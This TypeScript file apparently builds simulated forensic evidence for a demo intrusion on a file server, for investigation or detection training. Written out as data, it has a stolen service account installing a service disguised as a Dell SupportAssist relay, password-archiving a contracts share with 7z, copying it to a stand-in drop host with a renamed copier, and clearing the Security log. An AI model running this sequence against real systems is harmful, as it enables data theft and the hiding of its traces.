// With a stolen service account the relay comes to the file server, packs the charter contracts and sends them out.
import { services } from '../families.ts'
import { type DemoHost, domainSid, hashesOf, rfc3339, type World } from '../world.ts'
import { type LogEvent, logon } from '../windows-events.ts'
import { type DemoRow, mftRow, signed } from '../windows-state.ts'
import { beginning, minutes, relay, relayRows, spawned, sysmon } from './relay.ts'

const folder = 'C:\\ProgramData\\Dell\\SupportAssist\\relay'
const copier = `${folder}\\rc.exe`
const account = 'HALDEN\\svc-backup'
const arrival = (world: World): number => beginning(world) + 110 * minutes

export const fileServerRows = (world: World, host: DemoHost): Map<string, DemoRow[]> => {
  const t = arrival(world)
  const rows = relayRows(host, t + 2 * minutes, world)
  rows.set('Windows.System.Services', [
    {
      State: 'Running',
      Name: 'DSARelay',
      DisplayName: 'Dell SupportAssist Relay',
      Status: 'OK',
      Pid: 7316,
      ExitCode: 0,
      StartMode: 'Auto',
      PathName: `${relay} -k svc`,
      ServiceType: 'Own Process',
      UserAccount: 'LocalSystem',
      Created: rfc3339(t + 2 * minutes),
      ServiceDll: null,
      AbsoluteExePath: relay,
      HashServiceExe: hashesOf(relay),
      CertinfoServiceExe: signed(relay, '', false),
    },
  ])
  rows.get('Windows.NTFS.MFT')?.push(mftRow({ path: `${folder}\\cp.7z`, at: t + 40 * minutes, size: 734_003_200, entry: 91_040 }))
  return rows
}

const coming = (host: DemoHost, from: DemoHost, t: number): LogEvent[] => [
  logon({ at: t, user: 'svc-backup', type: 3, from: from.ip, workstation: from.hostname }),
  {
    at: t + 2 * minutes,
    channel: 'System',
    id: 7045,
    data: {
      ServiceName: 'DSARelay',
      ImagePath: `${relay} -k svc`,
      ServiceType: 'user mode service',
      StartType: 'auto start',
      AccountName: 'LocalSystem',
    },
  },
  spawned(host, {
    at: t + 2 * minutes + 1500,
    image: relay,
    command: `${relay} -k svc`,
    parent: services.path,
    pid: 7316,
    ppid: services.pid,
    user: 'NT AUTHORITY\\SYSTEM',
  }),
]

const leaving = (host: DemoHost, t: number): LogEvent[] => [
  spawned(host, {
    at: t + 31 * minutes,
    image: 'C:\\Program Files\\7-Zip\\7z.exe',
    command: `7z.exe a -pHx8 -mhe ${folder}\\cp.7z D:\\Shares\\Charter\\*`,
    pid: 9104,
    user: account,
  }),
  spawned(host, {
    at: t + 44 * minutes,
    image: copier,
    command: `${copier} copy cp.7z remote:in --config r.conf --bwlimit 8M`,
    pid: 9220,
    user: account,
  }),
  sysmon(t + 44 * minutes + 3000, 3, {
    ProcessId: 9220,
    Image: copier,
    User: account,
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIp: host.ip,
    SourcePort: 51_877,
    DestinationIp: '203.0.113.90',
    DestinationHostname: 'drop.charter-annex.example',
    DestinationPort: 443,
  }),
  {
    at: t + 118 * minutes,
    channel: 'Security',
    id: 1102,
    data: { SubjectUserSid: `${domainSid}-1142`, SubjectUserName: 'svc-backup', SubjectDomainName: 'HALDEN', SubjectLogonId: 7_120_033 },
  },
]

export const fileServerEvents = (world: World, host: DemoHost, from: DemoHost): LogEvent[] => [
  ...coming(host, from, arrival(world)),
  ...leaving(host, arrival(world)),
]
